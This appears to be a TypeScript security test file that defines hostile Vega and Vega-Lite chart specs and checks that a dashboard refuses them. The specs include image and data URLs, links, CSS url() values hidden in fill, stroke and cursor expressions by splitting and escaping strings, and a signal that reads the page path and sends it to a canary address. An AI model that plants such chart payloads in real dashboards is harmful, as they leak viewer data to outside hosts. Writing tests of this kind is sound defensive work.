import { until } from '../../../harness/until.ts'
import type { ReportSpec, Shown, WidgetAttack } from './attack.ts'

type Chart = Omit<ReportSpec, 'kind'>
type More = { isAlone?: boolean; isCreators?: boolean; act?: WidgetAttack['act'] }

const x = { field: 'orders.status', type: 'nominal' }
const y = { field: 'orders.count', type: 'quantitative' }
const bar = { mark: 'bar', encoding: { x, y } }
const size = { width: 200, height: 100 }
const data = [{ name: 'rows' }]
const everywhere = { x: { value: 0 }, y: { value: 0 }, width: { value: 200 }, height: { value: 100 } }

const boardOf = (isCreators: boolean): string => (isCreators ? 'creators' : 'charts')

/** `to`: the address on the canary that names the attack. */
const chart = (name: string, report: (to: string) => Chart, { isAlone = false, isCreators = false, act }: More = {}): WidgetAttack => ({
  name,
  board: isAlone ? name : boardOf(isCreators),
  isCreators,
  widget: ({ canary }) => ({ report: { kind: 'vega', ...report(`${canary}/${name}`) } }),
  ...(act ? { act } : {}),
})

/** Moves the pointer over the mark of the attack. */
const overMark =
  (name: string, isPressed = false) =>
  async ({ frame, hits }: Shown): Promise<void> => {
    const mark = frame.locator(`[data-widget="${name}"] .mark-rect path, [data-widget="${name}"] .mark-image image`).first()
    // A refused chart has no mark.
    if (!(await until(async () => (await mark.count()) > 0, 3000))) return
    await mark.hover({ force: true })
    if (!isPressed) return
    await mark.click({ force: true })
    await until(() => hits.has(name), 1500)
  }

const imageOf = (to: string): Chart => ({
  isRefused: true,
  spec: { mark: { type: 'image', url: to }, encoding: { x, y } },
  vega: { ...size, data, marks: [{ type: 'image', encode: { enter: { ...everywhere, url: { value: to } } } }] },
})

const dataOf = (to: string): Chart => ({
  isRefused: true,
  spec: { ...bar, data: { url: to } },
  vega: { ...size, data: [...data, { name: 'more', url: to }], marks: [] },
})

const barWith = (mark: object): Chart => ({ spec: { ...bar, mark: { type: 'bar', ...mark } } })
const expressionOf = (to: string): object => ({ expr: `'ur' + 'l(${to}#a)'` })

const linkOf = (to: string): Chart => ({
  ...barWith({ href: to }),
  isRefused: true,
  vega: { ...size, data, marks: [{ type: 'rect', encode: { enter: { ...everywhere, fill: { value: 'red' }, href: { value: to } } } }] },
})

/** Paints with an address that contains the path of the page. */
const readOf = (to: string): Chart => ({
  ...barWith({ fill: { expr: `'ur' + 'l(${to}?' + event.view.location.pathname + '#a)'` } }),
  isRefused: true,
  vega: {
    ...size,
    data,
    signals: [{ name: 'leak', value: '', on: [{ events: 'pointermove, mousemove, pointerover', update: 'event.view.location.pathname' }] }],
    marks: [{ type: 'rect', encode: { enter: everywhere, update: { fill: { signal: `leak ? 'url(${to}?' + leak + '#a)' : 'red'` } } } }],
  },
})

/** Charts of an author, and rows with hostile values. */
export const chartAttacks: readonly WidgetAttack[] = [
  chart('c-data', dataOf),
  chart('c-image', imageOf),
  chart('c-link', linkOf, { isAlone: true, act: overMark('c-link', true) }),
  chart('c-cursor', (to) => ({ ...barWith({ cursor: { expr: `'ur' + 'l(${to}), auto'` } }), isRefused: true }), {
    act: overMark('c-cursor'),
  }),
  chart('c-read', readOf, { act: overMark('c-read') }),
  chart('c-fill-expression', (to) => barWith({ fill: expressionOf(to) })),
  chart('c-stroke-expression', (to) => barWith({ stroke: expressionOf(to) })),
  chart('c-fill-escaped', (to) => barWith({ fill: `u\\72l(${to}#a)` })),
  chart('c-fill-rows', () => ({
    spec: { ...bar, encoding: { x, y, color: { field: 'orders.paint', scale: null } } },
    dimensions: ['orders.status', 'orders.paint'],
  })),
  // Charts of creators are drawn in a frame of their own.
  chart('c-creators-data', dataOf, { isCreators: true }),
  chart('c-creators-image', imageOf, { isCreators: true }),
  chart('c-creators-fill', (to) => barWith({ fill: expressionOf(to) }), { isCreators: true }),
]
